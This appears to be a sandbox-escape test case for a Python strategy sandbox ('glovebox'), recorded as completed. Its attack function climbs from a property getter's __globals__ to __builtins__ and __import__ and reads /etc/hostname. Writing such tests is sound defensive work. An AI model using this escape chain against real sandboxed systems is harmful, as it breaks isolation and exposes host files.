# id: L10
# family: language
# goal: reach the module of the API's state through the getter of a property and read a file there
# finding: PY102 PY105 PY106 PY119 PY202
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    names = type(ctx).now.fget.__globals__
    found = names["__builtins__"]
    found = found if isinstance(found, dict) else vars(found)
    return found["__import__"]("io").open("/etc/hostname").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
